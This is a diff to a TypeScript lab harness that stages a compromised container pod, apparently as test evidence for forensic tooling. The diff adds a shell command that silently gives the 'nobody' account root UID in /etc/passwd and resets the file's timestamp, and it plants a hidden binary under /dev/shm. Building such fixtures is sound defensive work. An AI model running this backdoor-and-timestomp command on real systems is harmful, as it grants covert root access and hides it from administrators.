@@ -13,6 +13,8 @@ import type { LabPod } from './pod.ts';
 export interface VictimOptions {
   /** Also opens a TCP connection to the outside. CRIU then refuses, for CRI does not pass tcp-established. */
   connection?: boolean;
+  /** Also leaves what is meant to be overlooked: a program in memory, and an edit that neither size nor time tells of. */
+  covert?: boolean;
 }
 
 export interface Victim {
@@ -50,6 +52,11 @@ const FILES: Victim['files'] = {
 const BACKDATED_SEC = 1580608922;
 
 const DROPPED = { path: '/tmp/.x/kworker', argv0: '[kworker/u8:2]' };
+
+/** As large as it was, and dated back to the time that it has in the image: who is nobody is root now. */
+const COVERT_EDIT =
+  "mtime=$(stat -c %Y /etc/passwd) && sed -i 's/^nobody:x:65534:/nobody:x:00000:/' /etc/passwd && touch -d @$mtime /etc/passwd";
+const COVERT_PROGRAM = 'dev/shm/.cache';
 
 const BREAK_IN = [
   'mkdir -p /tmp/.x',
@@ -112,6 +119,12 @@ async function startDropped(node: LabNode, pod: LabPod): Promise<Victim['dropped
   return { ...DROPPED, sha256: createHash('sha256').update(binary).digest('hex'), nsPid };
 }
 
+async function leaveCovertly(node: LabNode, pod: LabPod): Promise<void> {
+  await must(pod, ['sh', '-c', COVERT_EDIT]);
+  const root = join(node.procRoot, String(await pod.pid(CONTAINER)), 'root');
+  writeFileSync(join(root, COVERT_PROGRAM), readFileSync(join(labRoot(), 'usr/bin/nice')), { mode: 0o755 });
+}
+
 async function until(condition: () => boolean): Promise<void> {
   const deadline = Date.now() + 10_000;
   while (!condition()) {
@@ -156,6 +169,7 @@ export async function compromisedPod(node: LabNode, options: VictimOptions = {})
     containers: [{ name: CONTAINER, command, env }],
   });
   await must(pod, ['sh', '-c', BREAK_IN]);
+  if (options.covert) await leaveCovertly(node, pod);
   const secret = `EXHIBIT-SECRET-${randomBytes(12).toString('hex')}`;
   const secretPid = await startSecretHolder(node, pod, secret);
   const dropped = await startDropped(node, pod);
